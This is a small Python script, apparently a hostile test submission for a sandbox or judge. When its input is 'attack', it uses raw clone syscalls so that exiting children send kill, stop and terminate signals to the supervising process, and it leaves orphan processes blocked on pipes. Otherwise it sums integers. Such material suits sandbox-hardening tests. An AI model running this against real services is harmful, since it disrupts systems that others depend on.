import ctypes
import os


def attack():
    clone = ctypes.CDLL(None).syscall
    for number in (9, 19, 15):
        if clone(56, 0x8000 | number, 0, 0, 0, 0) == 0:  # a sibling (CLONE_PARENT) that would end with this signal
            os._exit(0)
        if os.fork() == 0:
            if clone(56, number, 0, 0, 0, 0) == 0:  # an orphan
                os.read(os.pipe()[0], 1)
            os._exit(0)
    print("made")


words = input().split()
if words == ["attack"]:
    attack()
else:
    print(sum(map(int, words[1:])))
